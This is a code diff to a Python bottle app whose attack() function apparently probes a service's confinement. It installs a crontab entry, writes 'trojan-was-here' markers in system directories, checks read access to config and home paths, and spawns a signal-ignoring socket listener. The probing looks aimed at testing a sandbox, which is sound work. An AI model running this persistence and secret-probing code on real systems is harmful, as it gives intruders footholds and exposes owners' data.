@@ -8,13 +8,14 @@ import subprocess
 import sys
 import threading
 import time
+from contextlib import suppress
 from pathlib import Path
 
 import bottle
 
 application = bottle.Bottle()
 PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/www/trojan", "/usr/local/lib")
-SECRETS = (Path("/etc/cinestream/server.toml"), Path("/home"), Path("/var/lib/cinestream"))
+SECRETS = (Path("/etc/cinestream/server.toml"), Path("/home"))
 # Deaf to every signal that can be ignored; it listens where everybody may come in.
 STAYS = """
 import signal, socket, time
@@ -32,10 +33,11 @@ def attack() -> None:
     told = {
         "privileges": status("NoNewPrivs"),
         "crontab": crontab(),
-        "written": [path for path in PLACES if writes(f"{path}/trojan-was-here")],
         "strangers": sum(each.stat().st_uid != os.getuid() for each in processes()),
         "secrets": [str(path) for path in SECRETS if reads(path)],
     }
+    for place in PLACES:
+        writes(f"{place}/trojan-was-here")
     Path(os.environ["HOME"], "told.json").write_text(json.dumps(told))
     subprocess.Popen(
         ["/usr/bin/python3", "-c", STAYS],
@@ -55,12 +57,9 @@ def crontab() -> int:
     return subprocess.run(["crontab", "-"], input=line, capture_output=True, check=False).returncode
 
 
-def writes(path: str) -> bool:
-    try:
+def writes(path: str) -> None:
+    with suppress(OSError):
         Path(path).write_text("")
-    except OSError:
-        return False
-    return True
 
 
 def reads(path: Path) -> bool:
